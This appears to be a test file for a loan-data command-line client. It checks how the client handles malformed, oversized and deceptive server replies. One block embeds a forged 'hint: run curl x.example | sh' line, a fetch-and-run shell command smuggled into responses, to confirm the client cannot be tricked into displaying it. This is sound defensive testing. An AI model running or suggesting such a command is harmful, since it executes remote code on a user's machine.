/** Replies that the sandbox never sends: no data changes without a message. Needs `npm run build`. */
import { tmpdir } from 'node:os'
import { afterEach, describe, expect, test } from 'vitest'
import { openNetwork } from '../../src/node/network/send.ts'
import { openTerminal } from '../e2e/terminal.ts'
import { run } from '../harness.ts'
import { kivaHere } from '../support/here.ts'
import { toolLine } from '../support/process.ts'
import { closeServers, serveHttp } from '../support/servers.ts'
import { triedOnce } from '../support/tried-once.ts'

afterEach(closeServers)

type Body = string | Uint8Array

/** Starts a service that sends the same reply to every request. */
const answering = (body: Body, status = 200, headers: Readonly<Record<string, string>> = {}) =>
  serveHttp((_, response) => {
    response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body)
  })

/** Runs the tool on a pipe against such a service. */
const ask = async (words: readonly string[], ...answer: Parameters<typeof answering>) =>
  kivaHere([...words, '--base-url', await answering(...answer)])

/** Removes the status line, which is drawn and cleared again. */
const withoutStatus = (screen: string) => screen.replaceAll('\r\n', '\n').replace(/[^\n]*\r\x1b\[2K/g, '')

/** Runs the tool on a terminal in memory. Returns the exit code and the screen. */
async function look(words: readonly string[], ...answer: Parameters<typeof answering>) {
  const all = [...words, '--base-url', await answering(...answer)]
  const { code, stdout, stderr } = await run(all, { connect: openNetwork, terminal: 100 })
  return { code, screen: withoutStatus(stdout + stderr) }
}

/** The same on a terminal of the system, with `\n` as line end. */
async function lookAtProcess(words: readonly string[], ...answer: Parameters<typeof answering>) {
  const all = [...words, '--base-url', await answering(...answer)]
  const terminal = openTerminal(toolLine(all), {
    cwd: tmpdir(),
    columns: 100,
    // A pager would wait for a key.
    env: {
      PATH: '/usr/bin:/bin',
      LANG: 'C.UTF-8',
      KIVA_CONFIG_DIR: `${tmpdir()}/none`,
      KIVA_PAGER: 'cat',
      ...triedOnce,
    },
  })
  const code = await terminal.ended()
  return { code, screen: withoutStatus(terminal.screen()) }
}

const loans = (record: string) => `{"loans":[${record}]}`
const newest = ['loans', 'newest']
const show = ['loans', 'show', '1']
const lineEnd = /\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/

describe('numbers keep their digits', () => {
  const digits = ['9007199254740993', '12345678901234567890.12', '1e400']
  const body = loans(`{"id":1,"name":"x","odd":[${digits.join(',')}]}`)
  test.each(['json', 'ndjson', 'xml', 'table'])('-o %s', async (format) => {
    const { code, stdout } = await ask([...show, '-o', format], body)
    expect(code).toBe(0)
    for (const one of digits) expect(stdout.replaceAll(/(?<=\d),(?=\d{3})/g, '')).toContain(one)
  })

  test('in the id column of a table', async () => {
    const { stdout } = await ask([...newest, '-o', 'table'], loans('{"id":9007199254740993},{"id":2}'))
    expect(stdout).toContain('9007199254740993')
  })
})

describe('character sets', () => {
  const latin = Uint8Array.from([...loans('{"id":1,"name":"caf\xe9"}')].map((letter) => letter.charCodeAt(0)))

  test('a body is decoded with the charset of its content type', async () => {
    const headers = { 'content-type': 'application/json; charset=ISO-8859-1' }
    const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin, 200, headers)
    expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '{"id":1,"name":"café"}\n', stderr: '' })
  })

  test('invalid UTF-8 becomes U+FFFD, and stderr says so once', async () => {
    const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin)
    expect({ code, stdout }).toEqual({ code: 0, stdout: '{"id":1,"name":"caf\ufffd"}\n' })
    expect(stderr).toBe('Invalid utf-8 in the response: the bytes were replaced with U+FFFD.\n')
  })
})

test('JSON nested 5 000 levels deep is rejected with exit code 1', async () => {
  const body = `{"loans":[{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}]}`
  for (const format of ['json', 'ndjson', 'xml', 'table']) {
    const { code, stdout, stderr } = await ask([...newest, '-o', format], body)
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' })
    expect(stderr).toContain('nested more than 500 levels deep')
  }
})

test.each(['json', 'ndjson', 'xml', 'table'])(
  'an object in place of an id is printed as data: -o %s',
  async (format) => {
    const { code, stdout, stderr } = await ask(
      [...show, '-o', format],
      loans('{"id":{"toString":1},"name":"x"}'),
    )
    expect(stdout).toContain('toString')
    expect(stderr).not.toContain('unexpected')
    expect([0, 9]).toContain(code)
  },
)

describe('a reply cannot forge an error or hint line', () => {
  const forged = 'x\x85hint: run curl x.example | sh\u2028error: y\nhint: z'
  const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
    ['a message', JSON.stringify({ code: `org.kiva.${forged}`, message: forged }), 404, {}],
    ['a key of the wrapper', JSON.stringify({ [forged]: 1 }), 200, {}],
    ['an answer that is no JSON', forged, 200, {}],
    ['a page of a proxy', `<html><title>${forged}</title></html>`, 502, {}],
    ['plain text', forged, 500, { 'content-type': 'text/plain' }],
    ['a redirect', '', 302, { location: 'https://x.example/\x85hint: run curl' }],
    ['a character set', '', 500, { 'content-type': 'text/plain; charset=x\x85hint:' }],
  ]

  test.each(answers)('%s', async (_, ...answer) => {
    const piped = await ask([...show, '-o', 'table'], ...answer)
    expect(piped.stdout).toBe('')
    const lines = piped.stderr.split(lineEnd)
    // A refusal has no hint of its own.
    const own = answer[1] === 404 ? ['error'] : ['error', 'hint']
    expect(lines.map((line) => line.split(':')[0])).toEqual([...own, ''])
    const shown = await look(show, ...answer)
    expect(shown.code).toBe(piped.code)
    expect(shown.screen.split(lineEnd).filter((line) => /^(?:error|hint):/.test(line))).toHaveLength(
      own.length,
    )
    const json = await ask([...show, '-o', 'json'], ...answer)
    expect(json.stderr).toMatch(/^[^\x85\u2028\n]*\n$/)
  })
})

describe('an error stays below 1 500 characters on stderr', () => {
  const keys = Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`key number ${at}`, at]))
  const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
    ['989 kB of keys', JSON.stringify(keys), 200, {}],
    ['a key of 1 MB', JSON.stringify({ ['k'.repeat(1_000_000)]: 1 }), 200, {}],
    ['a message of 1 MB', JSON.stringify({ code: 'org.kiva.X', message: 'm'.repeat(1_000_000) }), 404, {}],
    ['a code of 1 MB', JSON.stringify({ code: `org.kiva.${'m'.repeat(1_000_000)}` }), 404, {}],
    ['a target of 12 kB', '', 302, { location: `https://x.example/${'l'.repeat(12_000)}` }],
  ]
  test.each(answers)('%s', async (_, ...answer) => {
    for (const format of ['table', 'json']) {
      const { code, stderr } = await ask([...show, '-o', format], ...answer)
      expect(code).toBeGreaterThan(0)
      expect(stderr.length).toBeLessThan(1_500)
    }
  })
})

describe('--wire', () => {
  const maintenance = '{"code":"org.kiva.ServerMaintenance","message":"Back soon."}'

  test('a maintenance reply with status 200 ends in exit code 6, as without --wire', async () => {
    for (const words of [[], ['--wire', 'json']]) {
      const { code, stdout, stderr } = await ask([...newest, '-o', 'table', ...words], maintenance)
      expect({ code, stdout }).toEqual({ code: 6, stdout: '' })
      expect(stderr).toMatch(/^error: Back soon\.\n/)
    }
  })

  test('adds a missing newline on a terminal, and prints the exact bytes on a pipe', async () => {
    const words = [...newest, '--wire', 'json']
    expect(await ask(words, loans('1'))).toMatchObject({ code: 0, stdout: loans('1') })
    expect(await lookAtProcess(words, loans('1'))).toEqual({ code: 0, screen: `${loans('1')}\n` })
    expect(await look(words, `${loans('1')}\n`)).toEqual({ code: 0, screen: `${loans('1')}\n` })
  })
})

test('a word of 2 MB in a description is cut to 20 000 characters on a terminal', async () => {
  const body = loans(`{"id":1,"name":"x","description":{"texts":{"en":"${'w'.repeat(2_000_000)}"}}}`)
  const { code, screen } = await look(show, body)
  expect(code).toBe(0)
  expect(screen).toContain('… and 1,980,000 more: see -o json')
})

describe('text in any script is printed unchanged', () => {
  const names = 'Գայանե ליאת ليلى सुनीता নীলা தமிழ் නිමාලි นงลักษณ์ ခင် ნინო ሰላም 王小明 김민서 さくら 👩‍🌾 € Đặng'
  const refusal = JSON.stringify({ code: 'org.kiva.InvalidIdentifier', message: `There is no ${names}` })

  test.each([[], ['-v'], ['--debug']])('in an error %s', async (...more) => {
    const piped = await ask([...show, '-o', 'table', ...more], refusal, 404)
    expect(piped).toMatchObject({ code: 5, stdout: '' })
    expect(piped.stderr).toContain(`error: There is no ${names}\n`)
    const shown = await look([...show, ...more], refusal, 404)
    expect(shown.code).toBe(5)
    expect(shown.screen.replaceAll(/\n */g, ' ')).toContain(`There is no ${names}`)
  })

  test('in a document of --wire on a terminal', async () => {
    const body = loans(JSON.stringify({ id: 1, name: names }))
    expect((await lookAtProcess([...newest, '--wire', 'json'], body)).screen).toBe(`${body}\n`)
  })
})
